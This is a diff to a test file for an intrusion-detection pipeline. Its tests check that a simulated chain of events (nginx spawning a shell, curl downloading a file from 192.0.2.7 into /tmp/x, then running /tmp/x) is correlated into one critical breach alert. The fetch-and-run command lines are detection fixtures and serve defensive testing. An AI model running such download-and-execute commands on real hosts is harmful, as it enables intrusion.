@@ -6,26 +6,31 @@ import { event, finding } from '@norn/contracts';
 import { RuleEngine } from '@norn/rules';
 import { readRulePack } from '../src/adapters/rule-pack.ts';
 import { AlertBook } from '../src/alerts/alert-book.ts';
-import { createDetectionPipeline } from '../src/detection.pipeline.ts';
+import { Correlations } from '../src/correlations/correlations.ts';
+import { createDetectionPipeline, createRecallPipeline } from '../src/detection.pipeline.ts';
+import { FindingRates } from '../src/rates/finding-rates.ts';
 import { Detector } from '../src/detector.ts';
 import { batchRecord, process, reflexFinding, startUs, uid } from './simulated-host.ts';
 
 const { EventKind } = event;
 const windowMs = 600_000;
-const engine = new RuleEngine(readRulePack());
+const pack = readRulePack();
+const engine = new RuleEngine(pack.rules);
 
 /** A detector whose outputs are kept in memory: what Kafka would hold. A new one over the same log stands for a restart. */
 class DetectionInMemory {
   readonly written: Record<string, OutRecord[]> = { findings: [], alerts: [], deadLetter: [] };
+  private readonly log: BusRecord[] = [];
   private detector = this.start();
 
   async deliver(...records: BusRecord[]): Promise<void> {
+    this.log.push(...records);
     await this.detector.handle({ topic: 'lineage', partition: 0, records, endOffset: 0 });
   }
 
   async restart(): Promise<void> {
     this.detector = this.start();
-    await this.detector.prepare(0);
+    await this.detector.prepare(0, Infinity);
   }
 
   get alerts(): finding.Alert[] {
@@ -50,10 +55,16 @@ class DetectionInMemory {
         return Promise.resolve();
       },
     };
+    const correlations = new Correlations(pack, 500);
+    const rates = new FindingRates();
     return new Detector({
-      pipeline: createDetectionPipeline({ engine, book }),
+      pipeline: createDetectionPipeline({ engine, correlations, book, rates }),
+      recall: createRecallPipeline({ engine, correlations, rates }),
       book,
+      correlations,
+      rates,
       history,
+      batches: { read: (_partition, _nextOffset, take) => take(this.log) },
       outputs,
       partitionOf: () => 0,
     });
@@ -101,6 +112,8 @@ describe('detection', () => {
     const [alert] = detection.alerts;
     expect(toHex(alert!.lineageUid)).toBe(toHex(uid('nginx')));
     expect(toHex(alert!.scopeUid)).toBe(toHex(uid('python3')));
+    expect(detection.findings[0]).toMatchObject({ pid: 'python3'.length });
+    expect(detection.findings[0]!.ancestorPids.at(-1)).toBe('nginx'.length);
     expect(detection.findings.map(({ tenantId, hostId }) => `${tenantId}:${hostId}`)).toEqual(['default:host-1']);
     expect(alert!.id).toMatch(/^[0-9a-f]{32}$/);
   });
@@ -304,5 +317,73 @@ describe('detection', () => {
     expect(again.written).toEqual(once.written);
     expect(restarted.written['alerts']).toEqual(once.written['alerts']);
     expect(restarted.written['findings']).toEqual(once.written['findings']);
+  });
+});
+
+describe('correlations', () => {
+  const title = 'A service was breached';
+  const curl = process('curl', shell, { commandLine: 'curl -o /tmp/x http://192.0.2.7/x' });
+  const dropped = process('x', shell, { imagePath: '/tmp/x', commandLine: '/tmp/x' });
+  const steps = [exec(shell), exec(curl, 4_000), exec(dropped, 9_000)];
+  const later = batchRecord({ seq: 9, rows: [exec(python, 20_000)] });
+  const batches = steps.map((row, at) => batchRecord({ seq: at + 1, rows: [row] }));
+  const breaches = ({ findings }: DetectionInMemory): finding.Finding[] =>
+    findings.filter((each) => each.title === title);
+
+  it('tell one story over many batches, in the alert of what began it', async () => {
+    const detection = new DetectionInMemory();
+    await detection.deliver(...batches, later);
+    expect(breaches(detection)).toEqual([
+      expect.objectContaining({
+        severity: finding.Severity.CRITICAL,
+        containerId,
+        lineageUid: entry.uid,
+        processUid: dropped.uid,
+        timeUs: BigInt(startUs + 9_000_000),
+        summary:
+          'nginx started a shell: sh -c id, then curl fetched something: curl -o /tmp/x http://192.0.2.7/x, then x was started from /tmp/x',
+      }),
+    ]);
+    const newest = detection.alerts.at(-1)!;
+    expect(new Set(detection.alerts.map(({ id }) => id))).toEqual(new Set([newest.id]));
+    expect(newest).toMatchObject({ title, severity: finding.Severity.CRITICAL });
+    // Parts of a correlation alone are not told of.
+    expect(detection.findings.map((each) => each.title)).not.toContain('Something is fetched from the network');
+  });
+
+  it('find the same once when batches come again, and when it is restarted in between', async () => {
+    const detection = new DetectionInMemory();
+    await detection.deliver(batches[0]!, batches[1]!);
+    await detection.restart();
+    await detection.deliver(batches[1]!, batches[2]!, later, batches[2]!);
+    await detection.restart();
+    await detection.deliver(later);
+    expect(new Set(breaches(detection).map(({ id }) => id)).size).toBe(1);
+    const straight = new DetectionInMemory();
+    await straight.deliver(...batches, later);
+    expect(breaches(detection)[0]).toEqual(breaches(straight)[0]);
+  });
+
+  it('say how many events are known to be lost in that time', async () => {
+    const gap = { kind: EventKind.GAP, by: shell, afterMs: 6_000, value: 17n };
+    const detection = new DetectionInMemory();
+    await detection.deliver(batches[0]!, batchRecord({ seq: 2, rows: [steps[1]!, gap] }), batches[2]!, later);
+    expect(breaches(detection)[0]?.evidence).toContainEqual(
+      expect.objectContaining({ field: 'events.lost', value: '17' }),
+    );
+  });
+
+  it('are told of in the alert they belong to, however late the host is heard again', async () => {
+    const detection = new DetectionInMemory();
+    const muchLater = batchRecord({ seq: 9, rows: [exec(python, 9_000 + 2 * windowMs)] });
+    await detection.deliver(...batches, muchLater);
+    expect(new Set(detection.alerts.map(({ id }) => id)).size).toBe(1);
+    expect(detection.alerts.at(-1)).toMatchObject({ title });
+  });
+
+  it('go on after the clock of a host was set back', async () => {
+    const detection = new DetectionInMemory();
+    await detection.deliver(batchRecord({ seq: 1, rows: [exec(shell, 3_600_000)] }), ...batches, later);
+    expect(breaches(detection)).toHaveLength(1);
   });
 });
